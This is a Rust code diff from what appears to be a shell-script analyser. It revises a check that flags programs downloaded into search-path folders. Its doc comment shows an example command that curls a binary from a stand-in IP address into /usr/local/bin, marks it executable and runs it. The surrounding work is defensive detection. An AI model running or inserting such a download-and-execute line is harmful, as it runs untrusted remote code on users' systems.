@@ -81,8 +81,8 @@ impl<'a> Analysis<'a> {
         })
     }
 
-    /// The program of that name that the script fetched from nobody in particular into a folder where programs are looked
-    /// for: `curl -o /usr/local/bin/x http://203.0.113.9/x && chmod +x /usr/local/bin/x && x`.
+    /// The program of that name that the script put into a folder where programs are looked for, but for those that the
+    /// makers of well-known tools give out: `curl -o /usr/local/bin/x http://203.0.113.9/x && chmod +x /usr/local/bin/x && x`.
     fn fetched_into_the_search_path(&self, program: &str) -> Option<Val<'a>> {
         const FOLDERS: [&str; 4] = ["/usr/local/bin", "/usr/bin", "~/.local/bin", "~/bin"];
         if program.is_empty() || program.contains('/') {
@@ -96,7 +96,8 @@ impl<'a> Analysis<'a> {
                 None => format!("{folder}/{program}"),
             };
             let file = self.state.file(&path)?;
-            self.is_from_nobody(&file.data).then(|| Val::Lit(&*self.bump.alloc_str(&path)))
+            let known = file.data.taint.has(Taint::NETWORK) && !self.is_from_a_stranger(&file.data);
+            (!known || self.is_from_nobody(&file.data)).then(|| Val::Lit(&*self.bump.alloc_str(&path)))
         })
     }
 
